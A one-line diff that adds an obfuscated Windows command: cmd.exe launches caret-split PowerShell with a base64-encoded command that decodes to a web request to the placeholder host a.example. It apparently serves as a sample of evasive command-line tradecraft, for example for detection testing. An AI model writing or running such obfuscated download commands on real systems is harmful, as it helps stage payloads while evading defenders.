@@ -1,0 +1,1 @@
+cmd.exe /c "p^o^w^e^r^s^h^e^l^l -e aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAAvAHgALgB0AHgAdAA="
